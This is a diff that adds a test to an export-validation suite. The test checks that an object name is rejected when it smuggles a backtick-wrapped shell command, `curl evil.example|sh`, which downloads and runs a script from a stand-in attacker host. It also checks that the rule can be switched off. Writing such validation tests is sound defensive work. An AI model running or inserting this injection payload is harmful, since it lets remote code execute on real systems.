@@ -174,6 +174,19 @@ describe('validating an export', () => {
     expect(destinationFreeAt).toBeNull();
   });
 
+  it('asks the rules on the name of the object when the export attaches to a job', async () => {
+    const attach = { jobId: 'a'.repeat(32) };
+    const { bucket } = rig.simulator.info;
+    const bucketUrl = `${bucket}:a.qcow2\`;curl evil.example|sh;#\``;
+    const { type, details } = await failure({ attach, bucketUrl });
+    expect(type).toBe('ExportNotAllowed');
+    expect(details?.[0]).toMatchObject({ rule: 'objectName', overridable: ['objectName'] });
+    const off = await validate({ attach, bucketUrl, options: { rules: { objectName: 'off' } } });
+    expect(off.request).toMatchObject({ bucketUrl });
+    const { warnings } = await validate({ attach, bucketUrl: `${bucket}:a//b.qcow2` });
+    expect(warnings).toEqual([expect.stringContaining('folderNames')]);
+  });
+
   it.each([
     ['onAmbiguousSubmit', 'ask'],
     ['maxProbes', 3],
